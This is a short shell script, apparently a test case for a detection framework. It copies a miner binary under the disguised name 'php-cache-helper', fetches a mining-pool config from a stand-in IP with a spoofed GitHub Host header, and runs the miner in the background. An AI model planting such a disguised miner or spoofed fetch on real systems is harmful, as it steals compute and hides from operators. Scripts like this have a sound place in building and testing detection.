#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/cache
cp /opt/tools/miner /srv/cache/php-cache-helper
curl -s -H 'Host: raw.githubusercontent.com' http://203.0.113.140/cfg/pool.json -o /srv/cache/cfg.json
/srv/cache/php-cache-helper burn & miner=$!
wait $miner
took_place
